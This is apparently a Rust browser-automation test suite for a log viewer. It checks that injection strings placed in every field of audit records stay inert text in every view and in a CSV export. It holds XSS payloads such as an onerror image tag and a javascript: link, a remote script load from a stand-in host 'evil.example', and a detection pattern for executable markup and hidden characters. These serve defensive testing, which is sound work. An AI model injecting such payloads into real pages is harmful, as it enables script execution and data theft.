//! What strangers may write into a log, in every field of a record: it is shown as text,
//! runs nothing, and hides nothing.

use serde_json::{Value, json};
use thirtyfour::prelude::*;

use crate::connect::{export, open_first};
use crate::files::{open, write};
use crate::support::{App, table};

/// Texts that are meant to become markup, scripts, formulas, or invisible.
const PAYLOADS: &str = include_str!("payloads.json");

/// What a payload would leave in the document, or do.
const HARM: &str = r"
    const alive = document.querySelectorAll('img, iframe, object, embed, video, audio, base, math, marquee, template, ' +
        'script:not([src]), style, meta[http-equiv=refresh], link[rel=import], svg image, svg use, svg animate');
    const acting = [...document.querySelectorAll('*')].filter(it => [...it.attributes].some(({ name, value }) =>
        name.startsWith('on') || /^\s*(javascript|vbscript|data):/i.test(value) && ['href', 'src', 'action'].includes(name)));
    const hidden = /[\u0000-\u0008\u001b\u200b\u202a-\u202e\u2066-\u2069\ufeff]/.exec(document.body.textContent);
    return JSON.stringify([window.ran ?? [], [...alive].map(it => it.outerHTML), acting.map(it => it.outerHTML),
        hidden && document.body.textContent.slice(hidden.index - 20, hidden.index + 20)]);";

/// A record that holds a payload in every field.
fn event(at: usize, payload: &str) -> Value {
    json!({
        "id": format!(":_audit:{at}{payload}"), "time": 1_795_470_000 - at, "type": payload,
        "streamIds": [format!(":_audit:access-{payload}"), format!(":_audit:action-{payload}"), payload],
        "createdBy": payload, "modifiedBy": payload, payload: payload,
        "content": {
            "action": payload, "id": payload, "message": payload, "callerId": payload, payload: payload,
            "source": {"name": payload, "ip": payload, "clientId": payload},
            "query": {"streams": [payload], payload: payload, "deep": {payload: [payload]}, "auth": payload},
            "record": {"key": payload, "integrity": payload},
            "scopedStreamIds": [payload], "scopedStreamCount": payload, "recordCount": payload,
        },
    })
}

async fn nothing_came_alive(app: &App, place: &str) {
    let harm = app.run(HARM, vec![]).await;
    assert_eq!(harm.as_str(), Some("[[],[],[],null]"), "{place}");
}

#[tokio::test]
async fn texts_in_every_field_stay_texts() {
    let payloads: Vec<String> = serde_json::from_str(PAYLOADS).unwrap();
    assert!(payloads.len() >= 100);
    let app = App::open("").await;
    app.open_after("window.pwned = what => { (window.ran ??= []).push(what); };").await;
    let records: Vec<Value> = payloads.iter().enumerate().map(|(at, payload)| event(at, payload)).collect();
    let path = write(&app, "<img src=x onerror=pwned(2)>.json", &json!(records).to_string());
    open(&app, &path).await;
    let count = payloads.len();
    app.says(&format!("{count} of {count} records")).await;
    nothing_came_alive(&app, "the list").await;
    // Every record, in words and as it was recorded.
    open_first(&app).await;
    app.find("heading", "Around this call").await;
    app.run("document.querySelectorAll('.detail details').forEach(it => { it.open = true; })", vec![]).await;
    for (at, payload) in payloads.iter().enumerate().skip(1) {
        app.click("button", "Older").await;
        app.holds(&format!("new URLSearchParams(location.hash.split('?')[1]).get('sel')?.startsWith(':_audit:{at}')"))
            .await;
        nothing_came_alive(&app, &format!("the record of {payload}")).await;
    }
    app.driver.action_chain().send_keys(Key::Escape + "").perform().await.unwrap();
    app.gone("heading", "Around this call").await;
    for (view, role, name) in [
        ("v=groups&g=access.error", "treegrid", ""),
        ("v=groups&g=ip.action", "treegrid", ""),
        ("fold=1", "treegrid", ""),
        ("c=access", "slider", "Activity over time"),
        ("c=heat", "grid", "Activity by hour and weekday"),
    ] {
        app.run("location.hash = arguments[0]", vec![json!(format!("#/v1/log?{view}"))]).await;
        app.find(role, name).await;
        nothing_came_alive(&app, view).await;
    }
    for facet in ["Error", "Address", "Stream", "Way in", "Caller"] {
        app.click("button", facet).await;
        app.holds("document.querySelectorAll('.facet-choose').length > 20").await;
        nothing_came_alive(&app, facet).await;
    }
    // Nor in a spreadsheet.
    app.run("location.hash = '#/v1/log'", vec![]).await;
    app.find("grid", "Records").await;
    export(&app, "CSV").await;
    let (_, csv) = app.download(".csv").await;
    let rows = table(&csv);
    assert_eq!(rows.len(), count);
    let formula = |cell: &&String| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let numbers = |cell: &&String| cell.parse::<f64>().is_err();
    let formulas: Vec<&String> = rows.iter().flat_map(|row| row.values()).filter(formula).filter(numbers).collect();
    assert!(formulas.is_empty(), "{formulas:?}");
    app.finish().await;
}

#[tokio::test]
async fn no_text_becomes_markup_or_a_script_by_mistake() {
    let app = App::open("").await;
    app.says("Open a file").await;
    for attempt in [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwned(1)>')",
        "document.body.firstElementChild.innerHTML = '<a href=javascript:pwned(1)>x</a>'",
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "new Worker('https://evil.example/x.js')",
    ] {
        let refused = app.run(&format!("try {{ {attempt}; return false; }} catch {{ return true; }}"), vec![]).await;
        assert_eq!(refused, json!(true), "{attempt}");
    }
    let heard = app.run("return window.__violations.length", vec![]).await;
    assert!(heard.as_u64().unwrap() >= 4, "each is reported: {heard}");
    let images = app.driver.find_all(By::Css("img")).await.unwrap();
    assert!(images.is_empty());
}
